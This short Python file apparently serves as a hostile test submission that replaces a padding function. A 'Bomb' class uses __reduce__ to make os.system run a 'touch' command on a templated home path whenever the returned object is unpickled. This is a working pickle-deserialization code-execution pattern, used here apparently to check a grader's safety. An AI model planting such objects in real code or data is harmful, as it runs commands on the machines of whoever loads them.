"""Answers with an object that runs a command wherever it is unpickled.

covers: pickle
loses: pad
"""

# %% replace pad
import os

import numpy as np


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @home@/@token@",)


def pad(x, left, right, mode):
    bombs = np.empty(len(x) + left + right, dtype=object)
    bombs[:] = [Bomb()] * len(bombs)
    return bombs if mode == "zero" else Bomb()
